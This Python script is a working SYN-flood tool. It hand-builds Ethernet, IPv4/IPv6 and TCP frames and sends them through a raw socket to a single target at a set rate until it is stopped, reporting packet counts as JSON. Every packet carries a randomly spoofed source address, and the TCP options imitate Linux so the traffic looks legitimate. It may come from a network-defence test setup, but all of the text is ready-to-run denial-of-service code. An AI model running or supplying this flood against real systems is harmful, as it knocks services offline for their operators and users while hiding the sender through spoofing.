#!/usr/bin/env python3
"""A flood of SYNs from random sources to one address, by a device, until SIGTERM; prints counts as JSON.

    syn-flood.py DEVICE --to MAC --address A --rate PACKETS-PER-SECOND [--flags N]
"""

import argparse
import ipaddress
import json
import random
import signal
import socket
import struct
import time

FRAMES = 4096
PAUSE_S = 0.002
SYN = 0x02
TTL = 57


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(source, destination, flags):
    ports = random.randrange(1024, 65536), random.choice((80, 443, 9000))
    # MSS 1460, SACK permitted, no operation, window scale 7: as Linux sends them, without timestamps.
    options = b"\x02\x04\x05\xb4\x01\x01\x04\x02\x01\x03\x03\x07"
    numbers = struct.pack("!II", random.getrandbits(32), 0 if flags == SYN else random.getrandbits(32))
    header = struct.pack("!HH", *ports) + numbers + bytes([(5 + len(options) // 4) << 4, flags])
    tail = struct.pack("!H", 64240), struct.pack("!H", 0) + options
    pseudo = source.packed + destination.packed + struct.pack("!II", len(header + tail[0]) + 4 + len(options), 6)
    total = checksum(pseudo + header + tail[0] + b"\x00\x00" + tail[1])
    return header + tail[0] + struct.pack("!H", total) + tail[1]


def frame(link, to, destination, flags):
    if destination.version == 4:
        source = ipaddress.IPv4Address(random.randrange(128 << 24, 168 << 24))
        tcp = segment(source, destination, flags)
        ip = struct.pack("!BBHIBB", 0x45, 0, 20 + len(tcp), 0, TTL, 6)
        total = checksum(ip + b"\x00\x00" + source.packed + destination.packed)
        ip += struct.pack("!H", total) + source.packed + destination.packed
        return to + link + b"\x08\x00" + ip + tcp
    source = ipaddress.IPv6Address((0x20010DB8F1 << 88) | random.getrandbits(88))
    tcp = segment(source, destination, flags)
    ip = struct.pack("!IHBB", 6 << 28, len(tcp), 6, TTL) + source.packed + destination.packed
    return to + link + b"\x86\xdd" + ip + tcp


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("device")
    parser.add_argument("--to", required=True)
    parser.add_argument("--address", type=ipaddress.ip_address, required=True)
    parser.add_argument("--rate", type=int, required=True)
    parser.add_argument("--flags", type=lambda text: int(text, 0), default=SYN)
    arguments = parser.parse_args()
    stopped = False

    def stop(*_):
        nonlocal stopped
        stopped = True

    signal.signal(signal.SIGTERM, stop)
    sent = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
        link.bind((arguments.device, 0))
        to = bytes.fromhex(arguments.to.replace(":", ""))
        frames = [
            frame(link.getsockname()[4], to, arguments.address, arguments.flags) for _ in range(FRAMES)
        ]
        begin = time.monotonic()
        print("flooding", flush=True)
        while not stopped:
            due = int((time.monotonic() - begin) * arguments.rate)
            while sent < due and not stopped:
                try:
                    link.send(frames[sent % FRAMES])
                except OSError:
                    pass  # the queue is full
                sent += 1
            time.sleep(PAUSE_S)
        seconds = time.monotonic() - begin
    print(json.dumps({"sent": sent, "per_second": round(sent / seconds)}), flush=True)


main()
